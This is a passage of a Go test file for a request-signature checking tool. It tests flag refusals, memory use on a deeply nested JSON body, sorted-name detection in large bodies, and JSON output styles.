		t.Errorf("got %d and %s, want it accepted", status, got)
	}
}

func TestExplainRefuses(t *testing.T) {
	checkRefusals(t, "explain", []refusal{
		{"nothing", nil, 2, "give either"},
		{"both", []string{"-request", "-", "-body", "-"}, 2, "give either"},
		{"a request and a signature", []string{"-request", "-", "-signature", "x"}, 2, "give either"},
		{"no file", []string{"-request", "no-such-file"}, 1, "no such file"},
		{"no request", []string{"-request", "-"}, 1, "not an HTTP request"},
		{"no time", []string{"-request", "-", "-at", "noon"}, 1, "not an HTTP request"},
	})
}

// deepBody is small, but each of its lines is long once it is indented.
var deepBody = `{"a":` + strings.Repeat("[", 9000) + strings.Repeat("1,", 2000) + "1" + strings.Repeat("]", 9000) + "}"

// TestDeepBody: anybody can send such a request to listen, and it must not cost
// gigabytes.
func TestDeepBody(t *testing.T) {
	s := genuine(t)
	s.body = deepBody
	s.signed(strings.Repeat("0", 40))
	x := examination{secrets: []secrets.Value{{From: secretVariable, Value: testSecret}}, at: time.Now(), recorded: true}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	err := x.examineSignature(t.Context(), s.header, []byte(s.body))
	runtime.ReadMemStats(&after)
	if allocated := (after.TotalAlloc - before.TotalAlloc) >> 20; err == nil || allocated > 2048 {
		t.Errorf("a body of %d bytes got %v and %d MiB, want a mismatch and 2 GiB in all at most", len(s.body), err, allocated)
	}
}

// TestLargeBodies: what was not written to its end is not compared.
func TestLargeBodies(t *testing.T) {
	unsorted := []byte(`{"b":1,"a":[` + strings.Repeat("1,", 3<<20) + `1],"c":1,"d":1,"e":1}`)
	if namesSorted(unsorted) {
		t.Errorf("a body of %d bytes with unsorted names is taken for a sorted one", len(unsorted))
	}
}

// TestStyles: what is written in a style is the same value, and the styles differ.
func TestStyles(t *testing.T) {
	const text = "{\"a/b\":\"é\U0001F600 <&> \\u2028\\ud800 \\\"\\\\\\b\\f\\n\\r\\t\\u0001\",\"e\":[{},[],{\"n\":1.50,\"m\":[true,null,-0]}],\"f\":\"\"}"
	var want any
	if err := json.Unmarshal([]byte(text), &want); err != nil {
		t.Fatal(err)
	}
	written := make(map[string]bool)
	for s := range styles() {
		out := s.write([]byte(text))
		var got any
		if err := json.Unmarshal(out, &got); err != nil || fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("%+v got %v: %s", s, err, out)
		}
		written[string(out)] = true
	}
	if got := len(slices.Collect(styles())); len(written) != got {
		t.Errorf("got %d texts of %d styles: %q", len(written), got, slices.Sorted(maps.Keys(written)))
	}
}
